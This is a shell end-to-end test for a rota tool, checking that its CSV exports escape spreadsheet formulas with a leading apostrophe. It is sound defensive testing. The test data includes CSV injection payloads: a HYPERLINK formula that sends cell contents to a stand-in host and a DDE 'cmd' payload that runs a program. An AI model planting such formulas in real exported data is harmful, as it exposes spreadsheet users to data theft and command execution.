#!/bin/sh
# Issue 21, CSV for spreadsheets: a text cell of any CSV rota writes (rota
# pay --format csv, rota report monthly --format csv) that starts with
# = + - @, a tab or a carriage return gets a leading apostrophe, so that a
# spreadsheet shows it instead of running it (OWASP's rule); numbers,
# negative ones included, stay numbers (reports/csv.h: csv_put for text,
# csv_number and csv_int for numbers). A volunteer may set their own name.
. "${ROTA_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/lib.sh"
. "${ROTA_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/lib-pay.sh"

# payteam with the issue's payloads as names and e-mails.
hostile_team() {
	payteam &&
	rota --as ana person set ana --name "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" >/dev/null &&
	rota person set bo --name "+cmd|'/C calc'!A0" >/dev/null &&
	rota person set cy --name "@SUM(1+1)" --email "-2+3@x.io" >/dev/null &&
	rota person set dee --email "+1@x.io" >/dev/null
}

test_expect_success 'pay --format csv: formulas in names and e-mails start with an apostrophe, amounts stay numbers' '
	hostile_team &&
	db_dump >before.sql &&
	expect_status 0 rota pay 2027-01 --format csv &&
	cat >expected <<-\EXPECTED &&
	month,person,name,email,currency,shifts,stipend,weekday,weekend,holiday,active_minutes,active,sleep_interruptions,sleep_bonus,toil_hours,capped,total
	2027-01,ana,"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",ana@example.com,EUR,1,500.00,40.00,40.00,50.00,0,0.00,0,0.00,0,0.00,630.00
	2027-01,bo,'"'"'+cmd|'"'"'/C calc'"'"'!A0,bo@example.com,EUR,1,500.00,50.00,40.00,0.00,0,0.00,0,0.00,0,0.00,590.00
	2027-01,cy,'"'"'@SUM(1+1),'"'"'-2+3@x.io,EUR,1,500.00,50.00,40.00,0.00,0,0.00,0,0.00,0,0.00,590.00
	2027-01,dee,Dee Shah,'"'"'+1@x.io,EUR,1,470.24,45.83,40.00,0.00,0,0.00,0,0.00,0,0.00,556.07
	2027-01,mo,Mo Reyes,mo@example.com,USD,4,394.05,0.00,0.00,0.00,0,0.00,0,0.00,0,94.05,300.00
	EXPECTED
	cmp expected out &&
	test ! -s err &&
	db_dump >after.sql &&
	cmp before.sql after.sql
'

test_expect_success 'report monthly --format csv: the same rule, on stdout and with -o' '
	hostile_team &&
	cat >expected <<-\EXPECTED &&
	month,handle,name,shifts,oncall_hours,interruptions,ooh_interruptions,sleep_interruptions,nights_interrupted,longest_night_run,most_pages_in_a_shift,broken_daily_rest,broken_weekly_rest,ooh_share_pct,weeks_since_last_shift,close_shifts,pay,status,escalations
	2027-01,ana,"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1,168.0,0,0,0,0,0,0,0,0,0,,0,630.00 EUR,green,0
	2027-01,bo,'"'"'+cmd|'"'"'/C calc'"'"'!A0,1,168.0,0,0,0,0,0,0,0,0,0,,0,590.00 EUR,green,0
	2027-01,cy,'"'"'@SUM(1+1),1,168.0,0,0,0,0,0,0,0,0,0,,0,590.00 EUR,green,0
	2027-01,dee,Dee Shah,1,158.0,0,0,0,0,0,0,0,0,0,,0,556.07 EUR,green,0
	2027-01,mo,Mo Reyes,4,662.0,0,0,0,0,0,0,0,0,0,,0,300.00 USD,green,0
	EXPECTED
	expect_status 0 rota report monthly 2027-01 --format csv &&
	cmp expected out &&
	expect_status 0 rota report monthly 2027-01 --format csv -o r.csv &&
	cmp expected r.csv &&
	test ! -s out && test ! -s err
'

test_expect_success 'a payload that is no formula, and text that only looks numeric, are written as they are' '
	payteam &&
	rota person set ana --name "Ana =1+2" >/dev/null &&
	rota person set bo --name "2027" >/dev/null &&
	expect_status 0 rota pay 2027-01 --format csv &&
	sed -n "2,3p" out | cut -d, -f2,3 >names &&
	expect_file "ana,Ana =1+2
bo,2027" names
'

test_expect_success 'the CSV and formula rule is in rota(1)' '
	man_page="$ROTA_SRCDIR/man/rota.1" &&
	grep -q "leading apostrophe" "$man_page" &&
	grep -q "OWASP" "$man_page"
'

test_done
